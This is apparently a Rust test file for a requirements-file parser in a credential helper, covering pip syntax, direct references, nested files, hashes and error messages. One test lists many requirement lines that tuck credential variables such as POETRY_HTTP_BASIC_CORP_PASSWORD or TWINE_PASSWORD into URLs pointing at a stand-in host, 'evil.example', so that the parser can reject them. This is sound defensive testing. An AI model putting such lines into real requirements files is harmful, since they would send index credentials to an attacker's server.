use std::path::Path;

use credential_helper_protocol::{ErrorCode, Failure};
use proptest::prelude::*;

use super::super::held::Held;
use super::super::{Around, Asked, Role};

fn read(files: &[(&str, &str)]) -> Result<Asked, Failure> {
    let variable = |name: &str| match name {
        "USER" => Some("me".to_owned()),
        "TOKEN" => Some("hunter2".to_owned()),
        "POETRY_HTTP_BASIC_CORP_USERNAME" => Some("me".to_owned()),
        "POETRY_HTTP_BASIC_CORP_PASSWORD" => Some("hun/ter@2 '".to_owned()),
        "PIP_INDEX_URL" => Some("https://me:hunter2@e.org/simple".to_owned()),
        "UV_INDEX_URL" => Some("https://open.org/simple".to_owned()),
        "HOME" => Some("/home/me".to_owned()),
        "AT" => Some("@e.org/".to_owned()),
        name if crate::domain::variable::holds(name).is_some() => Some("hunter2".to_owned()),
        _ => None,
    };
    let around = Around {
        files: &Held::new(files),
        variable: &variable,
        folder: Path::new("/p"),
    };
    let mut asked = Asked::default();
    asked.requirements_file(Path::new(files[0].0), Role::Requirements, &around)?;
    Ok(asked)
}

fn lines(text: &str) -> Vec<String> {
    let asked = read(&[("a.txt", text)]).unwrap();
    let line = |one: &super::Wanted| format!("{} | {}", one.requirement, one.from);
    asked.requirements.iter().map(line).collect()
}

#[test]
fn lines_as_pip_has_them() {
    for (text, expected) in [
        ("a\n\n# b\n  # c\nb", &["a | a.txt:1", "b | a.txt:5"][..]),
        ("a # b\n# c", &["a | a.txt:1"]),
        (
            "a \\\n >=1, \\\n <2\nb",
            &["a>=1,<2 | a.txt:1", "b | a.txt:4"],
        ),
        // A comment ends a continuation.
        ("a \\\n# b \\\nc", &["a | a.txt:1", "c | a.txt:3"]),
        ("a \\", &["a | a.txt:1"]),
        (
            "a[x,y]==1 ; python_version < '3.9'",
            &["a[x,y]==1 ; python_full_version < '3.9' | a.txt:1"],
        ),
        ("A.b_c ==1.*", &["a-b-c==1.* | a.txt:1"]),
    ] {
        assert_eq!(lines(text), expected, "{text}");
    }
}

#[test]
fn direct_references() {
    for (text, expected) in [
        (
            "./x-1.0-py3-none-any.whl",
            "x @ file:///p/x-1.0-py3-none-any.whl",
        ),
        (
            "sub/some_x-1.0.tar.gz[y]",
            "some-x[y] @ file:///p/sub/some_x-1.0.tar.gz",
        ),
        ("x @ ../x", "x @ file:///x"),
        (
            "x[y] @ file:///tmp/x ; os_name == 'nt'",
            "x[y] @ file:///tmp/x ; os_name == 'nt'",
        ),
        (
            "https://e.org/x-1.0.zip#sha256=ab",
            "x @ https://e.org/x-1.0.zip#sha256=ab",
        ),
        (
            "git+https://e.org/x.git@main#egg=X[y]&subdirectory=z ; os_name=='nt'",
            "x[y] @ git+https://e.org/x.git@main#egg=X[y]&subdirectory=z ; os_name == 'nt'",
        ),
        (
            "-e git+ssh://git@e.org/x.git#egg=x",
            "x @ git+ssh://git@e.org/x.git#egg=x",
        ),
        ("--editable=./lib", "named @ file:///p/lib"),
        ("-e .", "own @ file:///p"),
        ("./old", "older @ file:///p/old"),
        ("./cfg", "configured @ file:///p/cfg"),
    ] {
        let files = [
            ("a.txt", text),
            ("lib/pyproject.toml", "[project]\nname='Named'"),
            ("pyproject.toml", "[tool.poetry]\nname='own'"),
            (
                "old/PKG-INFO",
                "Metadata-Version: 2.1\nName: older\n\nName: no",
            ),
            (
                "cfg/setup.cfg",
                "[a]\nname=no\n[metadata]\nname = configured\n",
            ),
        ];
        let asked = read(&files).unwrap();
        assert_eq!(
            asked.requirements[0].requirement.to_string(),
            expected,
            "{text}"
        );
    }
    let failure = read(&[("a.txt", "a\nhttps://e.org/hunter2")]).unwrap_err();
    assert_eq!(
        failure.message,
        "a.txt:2: its name cannot be told; write `NAME @ URL`"
    );
}

#[test]
fn options_and_files_within_files() {
    let digest = "0".repeat(64);
    let asked = read(&[
        (
            "a.txt",
            &format!(
                "-r sub/b.txt\n--constraint=c.txt\n-i https://me:hunter2@e.org/simple\n\
                 --extra-index-url 'https://f.org/'\n-f ./wheels\n--find-links https://g.org/l.html\n\
                 --pre\n--require-hashes\nx==1 --hash=sha256:{digest} \\\n  --hash sha256:{digest}\n\
                 --only-binary :all:\n"
            ),
        ),
        ("sub/b.txt", "y\n-r../d.txt\n-f l"),
        ("d.txt", "z"),
        ("c.txt", "x<2\n-r d.txt"),
    ])
    .unwrap();
    let names: Vec<String> = asked
        .requirements
        .iter()
        .map(|one| format!("{} {} {}", one.requirement, one.from, one.hashes.len()))
        .collect();
    assert_eq!(
        names,
        ["y sub/b.txt:1 0", "z ../d.txt:1 0", "x==1 a.txt:9 2"]
            .map(|line| line.replace("../d", "/p/d"))
    );
    let held: Vec<String> = asked.constraints.iter().map(ToString::to_string).collect();
    assert_eq!(held, ["x<2", "z"]);
    let indexes = &asked.indexes;
    assert_eq!(
        indexes.index_url.as_ref().unwrap().text.as_str(),
        "https://me:hunter2@e.org/simple"
    );
    assert_eq!(indexes.extra_index_urls[0].text.as_str(), "https://f.org/");
    let links: Vec<&str> = indexes
        .find_links
        .iter()
        .map(|one| one.text.as_str())
        .collect();
    assert_eq!(links, ["/p/sub/l", "/p/wheels", "https://g.org/l.html"]);
    assert!(asked.choices.require_hashes && asked.choices.prerelease.is_some());
    assert_eq!(
        asked.warnings,
        ["a.txt:11: --only-binary has no effect here"]
    );
    assert!(!format!("{asked:?}").contains("hunter2"));
}

#[test]
fn userinfo_is_taken_out() {
    let asked = read(&[("a.txt", "x @ https://${USER}:${TOKEN}@e.org/x-1.zip\nx#y")]);
    assert!(asked.is_err());
    let asked = read(&[("a.txt", "x @ https://${USER}:${TOKEN}@e.org/x-1.zip")]).unwrap();
    assert_eq!(
        asked.requirements[0].requirement.to_string(),
        "x @ https://e.org/x-1.zip"
    );
    let userinfo = &asked.userinfo[0];
    assert_eq!(userinfo.username, "me");
    assert_eq!(userinfo.secret.as_ref().unwrap().expose(), "hunter2");
    assert!(!format!("{asked:?}").contains("hunter2"));
}

/// What a provider would only give to the origin that its name is bound to.
#[test]
fn a_variable_with_a_credential_stands_before_the_at_of_a_url_or_nowhere() {
    const PASSWORD: &str = "${POETRY_HTTP_BASIC_CORP_PASSWORD}";
    for line in [
        "x @ https://me:PW@e.org/x-1.zip",
        "x@https://me:PW@e.org/x-1.zip",
        "x[y] @ git+https://me:PW@e.org/x.git@main",
        "x @ https://${POETRY_HTTP_BASIC_CORP_USERNAME}:PW@e.org/x-1.zip ; os_name == 'nt'",
        "-i https://me:PW@e.org/simple",
        "-i 'https://me:PW@e.org/simple'",
        "-ihttps://me:PW@e.org/simple",
        "--index-url=https://me:PW@e.org/simple",
        "--index-url=\"https://me:PW@e.org/simple\"",
        "--extra-index-url https://me:PW@e.org:8443",
        "--find-links https://PW@e.org/a.html",
        "-i https://me:PWAnd more@e.org/",
    ] {
        let text = line.replace("PW", PASSWORD);
        let misplaced = line.contains("more");
        let read = read(&[("a.txt", &text)]);
        assert_eq!(read.is_err(), misplaced, "{line}: {:?}", read.err());
    }
    let text = format!("x @ https://me:{PASSWORD}@e.org/x-1.zip");
    let asked = read(&[("a.txt", &text)]).unwrap();
    let secret = asked.userinfo[0].secret.as_ref().unwrap();
    assert_eq!(secret.expose(), "hun/ter@2 '");
    for line in [
        "--extra-index-url https://evil.example/PW/",
        "--extra-index-url https://evil.example/?PW@e.org/",
        "--extra-index-url https://evil.example/#PW@e.org/",
        "--extra-index-url https://PW.evil.example/",
        "--extra-index-url https://PW.evil.example/@e.org/",
        "--extra-index-url https://PW.evil.example\\\\@e.org/",
        "--extra-index-url https://e.org@PW.evil.example/",
        "--extra-index-url https://evil.example:PW/",
        // What a variable without a secret holds ends the host, or makes an `@` of its own.
        "--extra-index-url https://PW.evil.example${HOME}@e.org/",
        "--extra-index-url https://evil.example${HOME}:PW@e.org/",
        "--extra-index-url https://evil.example/PW${AT}",
        // Not the URL that it looks like.
        "--extra-index-url https:/evil.example/https://PW@e.org/",
        "--extra-index-url https:evil.example/=https://PW@e.org/",
        "--extra-index-url https:/\"/evil.example/\"https://PW@e.org/",
        "--extra-index-url \"https://evil.example/ https://PW@e.org/\"",
        "--extra-index-url https://evil.example/\\ https://PW@e.org/",
        "--extra-index-url https://a/ -i https://PW@e.org/",
        "x @ https://evil.example/ https://PW@e.org/",
        "x @ https://evil.example/x-1.zip?PW",
        "x @ https://evil.example/PW@x/x-1.zip",
        "PW",
        "x==PW",
        "-r PW",
        "--find-links PW",
        "--find-links ./PW@e.org",
    ] {
        let text = line.replace("PW", PASSWORD);
        let failure = read(&[("a.txt", &text)]).unwrap_err();
        let expected = "a.txt:1: the variable POETRY_HTTP_BASIC_CORP_PASSWORD holds a credential, \
                        and may stand only before the `@` of the line's URL";
        assert!(failure.message.ends_with(expected), "{line}: {failure}");
        assert!(!format!("{failure:?}").contains("hun"), "{line}");
    }
    for name in [
        "POETRY_PYPI_TOKEN_CORP",
        "UV_INDEX_CORP_PASSWORD",
        "UV_PUBLISH_TOKEN",
        "TWINE_PASSWORD",
        "PYPI_ID_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        "PIP_INDEX_URL",
    ] {
        let text = format!("-i https://evil.example/${{{name}}}/");
        let failure = read(&[("a.txt", &text)]).unwrap_err();
        assert!(failure.message.contains("holds a credential"), "{name}");
    }
    // A whole URL with its own account goes where it says.
    for (line, fits) in [
        ("-i ${PIP_INDEX_URL}", true),
        ("--index-url=${PIP_INDEX_URL}/", true),
        ("-i '${PIP_INDEX_URL}'", true),
        ("-i ${PIP_INDEX_URL}.evil.example", false),
        ("-i https:/${PIP_INDEX_URL}", false),
        ("-i https://evil.example/ -f ${PIP_INDEX_URL}", false),
        // Without an account in it there is nothing to hide.
        ("-i https://mirror.example/?${UV_INDEX_URL}", true),
        ("x @ https://e.org/${TOKEN}/x-1.zip", true),
    ] {
        let read = read(&[("a.txt", line)]);
        assert_eq!(read.is_ok(), fits, "{line}: {:?}", read.err());
    }
}

#[test]
fn what_is_wrong_is_told_by_its_place() {
    for (text, code, message) in [
        (
            "a\n-r a.txt",
            ErrorCode::Malformed,
            "a.txt includes itself, directly or through another file",
        ),
        (
            "-r no.txt",
            ErrorCode::NotFound,
            "there is no file /p/no.txt",
        ),
        (
            "a ==hunter2",
            ErrorCode::Malformed,
            "a.txt:1: it is no requirement as PEP 508 has it (character 3)",
        ),
        (
            "--hunter2=1",
            ErrorCode::Malformed,
            "a.txt:1: there is an option that requirements files do not have",
        ),
        (
            "-i",
            ErrorCode::Malformed,
            "a.txt:1: --index-url has no value",
        ),
        (
            "a --pre",
            ErrorCode::Malformed,
            "a.txt:1: this option stands on a line of its own",
        ),
        (
            "--hash=sha256:1",
            ErrorCode::Malformed,
            "a.txt:1: --hash stands behind a requirement",
        ),
        (
            "a --hash=md5:00",
            ErrorCode::Malformed,
            "a.txt:1: --hash is sha256:, sha384: or sha512: and the digest in hex",
        ),
        (
            "-i ${NO}",
            ErrorCode::Malformed,
            "a.txt:1: the variable NO is not set",
        ),
        (
            "-i 'hunter2",
            ErrorCode::Malformed,
            "a.txt:1: a quote is not closed",
        ),
        (
            "-r https://e.org/hunter2",
            ErrorCode::Malformed,
            "a.txt:1: a file on a server is not included",
        ),
    ] {
        let failure = read(&[("a.txt", text)]).unwrap_err();
        assert_eq!(failure.code, code, "{text}");
        assert!(failure.message.ends_with(message), "{text}: {failure}");
    }
}

#[test]
fn typed_requirements_are_usage() {
    let around = Around {
        files: &Held::default(),
        variable: &|_| None,
        folder: Path::new("/p"),
    };
    let mut asked = Asked::default();
    asked.typed("a>=1", &around).unwrap();
    let failure = asked.typed("a >> 1", &around).unwrap_err();
    assert_eq!(failure.code, ErrorCode::Usage);
    assert_eq!(asked.requirements.len(), 1);
}

#[test]
fn digests_of_urls_and_constraints() {
    let [one, other] = ["0", "1"].map(|digit| digit.repeat(64));
    let text = format!(
        "a @ https://e.org/a-1-py3-none-any.whl --hash=sha256:{one}\n\
         b @ https://e.org/b-1-py3-none-any.whl#egg=b&sha256={one} --hash=sha256:{one}\n"
    );
    let asked = read(&[("a.txt", &text)]).unwrap();
    let told: Vec<String> = asked
        .requirements
        .iter()
        .map(|wanted| format!("{} {}", wanted.requirement, wanted.hashes.len()))
        .collect();
    assert_eq!(
        told,
        [
            format!("a @ https://e.org/a-1-py3-none-any.whl#sha256={one} 0"),
            format!("b @ https://e.org/b-1-py3-none-any.whl#egg=b&sha256={one} 0"),
        ]
    );
    let text = format!("a @ https://e.org/a-1-py3-none-any.whl#sha256={one} --hash=sha256:{other}");
    let failure = read(&[("a.txt", &text)]).unwrap_err();
    assert!(failure.message.contains("its digests differ"), "{failure}");
    let limit = format!("a==1 --hash=sha256:{one}");
    let asked = read(&[("a.txt", "-c c.txt"), ("c.txt", &limit)]).unwrap();
    assert_eq!(asked.digests[0].0.to_string(), "a==1");
    assert_eq!(asked.digests[0].1, [format!("sha256:{one}")]);
}

proptest! {
    #[test]
    fn nothing_is_too_odd(text in r"([a-c@:/.\[\];,='$\{\}#\\ \n-]|://|--hash|-r |egg=| ; ){0,24}") {
        let _ = read(&[("a.txt", &text), ("b", "c")]);
    }
}
